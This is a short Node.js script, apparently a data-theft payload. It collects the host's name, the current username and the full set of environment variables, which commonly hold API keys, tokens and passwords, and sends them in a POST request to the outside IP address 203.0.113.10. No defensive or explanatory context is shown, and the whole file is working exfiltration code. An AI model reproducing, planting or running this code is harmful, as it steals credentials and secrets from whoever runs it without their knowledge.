const os = require('os');
const https = require('https');

const info = {
  host: os.hostname(),
  user: os.userInfo().username,
  env: process.env,
};
const req = https.request({hostname: '203.0.113.10', path: '/c', method: 'POST'});
req.write(JSON.stringify(info));
req.end();
